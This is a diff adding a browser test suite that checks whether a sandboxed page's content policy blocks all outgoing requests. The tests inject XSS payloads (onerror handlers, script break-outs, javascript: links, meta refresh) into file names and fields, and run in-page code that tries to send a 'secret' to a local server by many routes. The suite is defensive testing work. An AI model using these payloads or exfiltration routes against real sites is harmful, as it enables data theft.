@@ -1,0 +1,218 @@
+// SPDX-License-Identifier: MIT
+// Nothing leaves the page: not by using it, not by hostile content, not by code that tries on purpose. A server on this machine counts.
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import { after, before, test } from 'node:test';
+import { choose, file, launch, open, openSample, PAGE, SAMPLE, serve, smallModel, tableReady, trouble } from './browser.mjs';
+
+/** @type {import('playwright-core').Browser} */
+let browser;
+/** @type {Awaited<ReturnType<typeof serve>>} */
+let server;
+before(async () => {
+  browser = await launch();
+  server = await serve((path) => (path === '/page' ? { type: 'text/html', body: 'reached' } : { type: 'image/png', body: '' }));
+});
+after(async () => {
+  await browser.close();
+  server.close();
+});
+
+test('the policy denies by default, in the box and around it', () => {
+  const html = readFileSync(PAGE, 'utf8');
+  const policies = [...html.matchAll(/Content-Security-Policy(?:"|&quot;) content=(?:"|&quot;)(.*?)(?:"|&quot;)>/g)].map((match) => match[1]);
+  assert.equal(policies.length, 2);
+  for (const policy of policies) {
+    assert.match(policy, /^default-src 'none'; script-src 'sha256-[^ ]+' 'wasm-unsafe-eval'; style-src /);
+    for (const rule of ["connect-src 'none'", "frame-src 'none'", "form-action 'none'", "base-uri 'none'", "require-trusted-types-for 'script'", 'trusted-types chs']) assert.ok(policy.includes(rule), rule);
+    assert.doesNotMatch(policy, /unsafe-inline|https?:|'self'| \*/);
+  }
+  assert.match(html, /sandbox="allow-scripts allow-downloads allow-modals"/);
+});
+
+test('using every view asks for nothing and breaks no rule', async () => {
+  const tab = await open(browser);
+  const { box } = tab;
+  await openSample(tab);
+  await box.locator('.row[aria-rowindex="2"]').click();
+  await box.locator('.breakdown').waitFor();
+  await box.getByRole('link', { name: 'What-if' }).click();
+  await box.locator('#w-support').fill('60');
+  await box.locator('h1', { hasText: 'would change band' }).waitFor();
+  await box.getByRole('button', { name: 'Light or dark' }).click();
+  await choose(tab, [SAMPLE.model, SAMPLE.accounts]);
+  await tableReady(tab);
+  assert.deepEqual(trouble(tab), {});
+  await tab.context.close();
+});
+
+test('hostile names, files, columns and models show as text', async () => {
+  const hostile = [
+    `<img src="${server.origin}/img" onerror="alert(1)">`,
+    `</script><script>alert(2)</script>`,
+    `javascript:alert(3)`,
+    `"><iframe src="${server.origin}/page"></iframe>`,
+    `<svg onload=alert(4)><style>@import url(${server.origin}/css);</style>`,
+    `<a href="javascript:alert(5)" style="background:url(${server.origin}/bg)">x</a>`,
+    `<!-- <script> --!><base href="${server.origin}/">`,
+    `\u202Egnp.exe\u0000<meta http-equiv=refresh content="0;url=${server.origin}/page">`,
+  ];
+  const quote = (/** @type {string} */ text) => `"${text.replaceAll('"', '""').replaceAll('\u0000', '')}"`;
+  const rows = hostile.map((name, i) => [quote(`id${i}${name}`), quote(name), i * 9, quote(name), quote(name), 100, '2027-01-01'].join(','));
+  const bad = hostile[0];
+  const model = smallModel({
+    name: bad,
+    about: { purpose: bad },
+    account: { id: 'id', name: 'name', owner: 'owner', segment: 'tier', value: 'arr', renewal: 'renewal', date: 'day' },
+    signals: [
+      { id: 'x', label: bad, value: 'x', unit: bad, curve: [[0, 0], [100, 100]] },
+      { id: 'w', label: hostile[1], value: 'tier', points: { [hostile[0]]: 10, [hostile[2]]: 60 } },
+    ],
+    score: { of: [{ group: 'g', label: hostile[4], weight: 1, of: [{ signal: 'x', weight: 1 }, { signal: 'w', weight: 1 }] }] },
+    segments: [{ name: hostile[1], if: 'x < 30' }],
+    rules: [{ if: 'x < 20', cap: 30, because: bad }],
+    bands: [{ name: hostile[1], from: 0, color: 'red', playbook: 'p' }, { name: hostile[3], from: 50, color: 'green' }],
+    playbooks: { p: { owner: bad, within: '2d', steps: [bad, hostile[1]] } },
+  });
+  const tab = await open(browser);
+  const { box, inside } = tab;
+  await choose(tab, [
+    file('model.json', model),
+    file(`${hostile[0].replaceAll('/', '_')}.csv`, `id,name,x,owner,tier,arr,renewal,day\n${rows.map((row) => `${row},2026-01-01`).join('\n')}\n`),
+    file('overrides.csv', `account,action,value,reason,author,from,until\n${quote(`id1${hostile[1]}`)},set,12,${quote(bad)},${quote(hostile[3])},2025-01-01,2027-01-01\n`),
+  ]);
+  await tableReady(tab);
+  const names = await box.locator('.row .name a').allInnerTexts();
+  for (const name of hostile.slice(0, 7)) assert.ok(names.includes(name), `${name} is not among ${names.join(' | ')}`);
+  await box.getByText('What was read').click();
+  for (let index = 0; index < hostile.length; index++) {
+    await inside().evaluate((to) => {
+      location.hash = `account/${to}`;
+    }, index);
+    await box.locator('.breakdown').waitFor();
+    await tab.page.waitForTimeout(60);
+  }
+  await box.getByRole('link', { name: 'What-if' }).click();
+  await box.locator('#w-x, #w-g').first().waitFor();
+  assert.equal(await inside().evaluate(() => document.querySelectorAll('img, iframe, script, base, meta[http-equiv=refresh], a[href^="javascript"]').length), 1, 'only the own script');
+  assert.deepEqual(trouble(tab), {});
+  assert.deepEqual(server.hits, []);
+  await tab.context.close();
+});
+
+test('code inside the box that tries to send reaches nobody', async () => {
+  const tab = await open(browser);
+  const tried = await tab.inside().evaluate(async (origin) => {
+    /** @type {Record<string, string>} */
+    const result = {};
+    const attempt = async (/** @type {string} */ name, /** @type {() => unknown} */ go) => {
+      try {
+        await Promise.race([go(), new Promise((resolve) => setTimeout(resolve, 400))]);
+        result[name] = 'done';
+      } catch (error) {
+        result[name] = error instanceof Error ? error.name : String(error);
+      }
+    };
+    const node = (/** @type {string} */ tag, /** @type {Record<string, string>} */ attributes) => {
+      const made = document.createElement(tag);
+      for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
+      document.body.append(made);
+      return made;
+    };
+    const to = (/** @type {string} */ path) => `${origin}/${path}?secret`;
+    await attempt('fetch', () => fetch(to('fetch')));
+    await attempt('xhr', () => {
+      const xhr = new XMLHttpRequest();
+      xhr.open('GET', to('xhr'), false);
+      xhr.send();
+    });
+    await attempt('beacon', () => navigator.sendBeacon(to('beacon'), 'secret'));
+    await attempt('socket', () => new WebSocket(to('socket').replace('http', 'ws')));
+    await attempt('events', () => new EventSource(to('events')));
+    await attempt('img', () => node('img', { src: to('img') }));
+    await attempt('css', () => node('link', { rel: 'stylesheet', href: to('css') }));
+    await attempt('prefetch', () => node('link', { rel: 'prefetch', href: to('prefetch') }));
+    await attempt('preconnect', () => node('link', { rel: 'dns-prefetch', href: origin }));
+    await attempt('frame', () => node('iframe', { src: to('frame') }));
+    await attempt('object', () => node('object', { data: to('object') }));
+    await attempt('media', () => node('video', { src: to('media') }));
+    await attempt('font', () => new FontFace('f', `url(${to('font')})`).load());
+    await attempt('form', () => /** @type {HTMLFormElement} */ (node('form', { action: to('form'), method: 'post' })).submit());
+    await attempt('ping', () => node('a', { href: '#x', ping: to('ping') }).click());
+    await attempt('import', () => import(to('import')));
+    result.rtc = typeof (/** @type {any} */ (globalThis).RTCPeerConnection);
+    result.transport = typeof (/** @type {any} */ (globalThis).WebTransport);
+    result.open = typeof globalThis.open;
+    return result;
+  }, server.origin);
+  assert.equal(tried.fetch, 'TypeError');
+  assert.deepEqual([tried.rtc, tried.transport, tried.open], ['undefined', 'undefined', 'undefined']);
+  assert.deepEqual(server.hits, []);
+  assert.ok(tab.seen.violations.length > 5, 'the attempts were real: the browser refused them by rule');
+  await tab.context.close();
+});
+
+/** Ways to lead a window elsewhere; each may cost the page, so each has its own. @type {Record<string, (to: string) => void>} */
+const LEAVING = {
+  'its own location': (to) => {
+    location.href = to;
+  },
+  'the outer page': (to) => {
+    /** @type {any} */ (top).location = to;
+  },
+  'a refresh': (to) => {
+    const meta = document.createElement('meta');
+    meta.httpEquiv = 'refresh';
+    meta.content = `0;url=${to}`;
+    document.head.append(meta);
+  },
+  'a link to a new window': (to) => {
+    const link = document.createElement('a');
+    [link.href, link.target] = [to, '_blank'];
+    document.body.append(link);
+    link.click();
+  },
+  'a link to the outer page': (to) => {
+    const link = document.createElement('a');
+    [link.href, link.target] = [to, '_top'];
+    document.body.append(link);
+    link.click();
+  },
+};
+
+for (const [name, go] of Object.entries(LEAVING)) {
+  test(`code inside the box cannot leave by ${name}`, async () => {
+    const tab = await open(browser);
+    const { page, seen } = tab;
+    await tab.inside().evaluate(go, `${server.origin}/page?secret`).catch(() => {}); // what is refused throws, or the frame is gone
+    await page.waitForTimeout(500);
+    assert.deepEqual(server.hits, []);
+    assert.equal(seen.popups, 0);
+    assert.match(page.url(), /chs\.html$/);
+    await tab.context.close();
+  });
+}
+
+test('the server does count: the same request from an ordinary page arrives', async () => {
+  const page = await browser.newPage();
+  await page.goto(`${server.origin}/page`);
+  await page.evaluate((to) => fetch(to).then(() => null), `${server.origin}/fetch?counted`);
+  assert.ok(server.hits.includes('GET /fetch?counted'));
+  server.hits.length = 0;
+  await page.close();
+});
+
+test('the proof on the page tells what the browser said', async () => {
+  const tab = await open(browser);
+  await tab.box.getByText('See the proof').click();
+  await tab.box.getByRole('button', { name: 'Try to send something' }).click();
+  await tab.box.getByText('Nothing left this tab.').waitFor();
+  const said = await tab.box.locator('.privacy li', { hasText: 'refused by the browser' }).allInnerTexts();
+  assert.equal(said.length, 3);
+  assert.match(said[0], /connect-src/);
+  assert.match(said[1], /img-src/);
+  assert.match(said[2], /connect-src/);
+  assert.deepEqual(tab.seen.requests, []);
+  assert.deepEqual(tab.seen.blocked, ['https://example.com/chs-test.png']);
+  await tab.context.close();
+});
